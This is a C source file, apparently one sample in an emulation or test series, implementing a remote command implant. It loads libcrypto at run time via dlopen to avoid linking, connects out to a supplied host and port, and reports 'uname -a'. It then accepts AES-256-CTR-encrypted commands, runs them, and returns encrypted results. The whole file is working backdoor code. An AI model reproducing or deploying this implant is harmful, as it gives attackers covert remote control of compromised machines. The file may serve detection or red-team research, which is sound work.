/*
 * AN0401: a program that is linked with no crypto library, opens libcrypto when it runs, and takes commands under AES-256 of it.
 * usage: dlopen LIBRARY ADDRESS PORT
 */
#include <dlfcn.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>

#include "answers.h"
#include "link.h"

static void *library;
static int (*update)(void *, uint8_t *, int *, const uint8_t *, int);

static void *begin(const uint8_t iv[16])
{
	void *(*context)(void) = (void *(*)(void))dlsym(library, "EVP_CIPHER_CTX_new");
	const void *(*cipher)(void) = (const void *(*)(void))dlsym(library, "EVP_aes_256_ctr");
	int (*init)(void *, const void *, void *, const uint8_t *, const uint8_t *) =
		(int (*)(void *, const void *, void *, const uint8_t *, const uint8_t *))dlsym(library, "EVP_EncryptInit_ex");
	void *made;

	update = (int (*)(void *, uint8_t *, int *, const uint8_t *, int))dlsym(library, "EVP_EncryptUpdate");
	if (!context || !cipher || !init || !update)
		link_fail("dlsym");
	made = context();
	init(made, cipher(), NULL, emulation_key, iv);
	return made;
}

static void apply(void *context, uint8_t *bytes, size_t len)
{
	static uint8_t out[4 + ANSWER_MAX];
	int done = 0;

	update(context, out, &done, bytes, (int)len);
	memcpy(bytes, out, len);
}

static void say(int fd, void *out, const uint8_t *head, size_t head_len, const char *text, size_t len)
{
	static uint8_t bytes[16 + 4 + ANSWER_MAX];

	if (head_len > 0)
		memcpy(bytes, head, head_len);
	for (int i = 0; i < 4; i++)
		bytes[head_len + (size_t)i] = (uint8_t)(len >> (24 - 8 * i));
	memcpy(bytes + head_len + 4, text, len);
	apply(out, bytes + head_len, 4 + len);
	link_send(fd, bytes, head_len + 4 + len);
}

int main(int argc, char **argv)
{
	static char text[ANSWER_MAX];
	uint8_t iv[16], turned[16], size[4];
	char command[256];
	void *out, *in;
	size_t len;
	int fd;

	if (argc != 4)
		return 64;
	library = dlopen(argv[1], RTLD_NOW);
	if (!library) {
		fprintf(stderr, "%s\n", dlerror());
		return 1;
	}
	fd = link_open(argv[2], argv[3], SOCK_STREAM);
	link_random(iv, sizeof(iv));
	for (int i = 0; i < 16; i++)
		turned[i] = (uint8_t)~iv[i];
	out = begin(iv);
	in = begin(turned);
	say(fd, out, iv, sizeof(iv), text, answer("uname -a", text));
	while (link_receive(fd, size, 4)) {
		apply(in, size, 4);
		len = (size_t)size[2] << 8 | size[3];
		if (len >= sizeof(command) || !link_receive(fd, (uint8_t *)command, len))
			return 1;
		apply(in, (uint8_t *)command, len);
		command[len] = 0;
		len = answer(command, text);
		if (len == 0)
			return 0;
		say(fd, out, NULL, 0, text, len);
	}
	return 1;
}
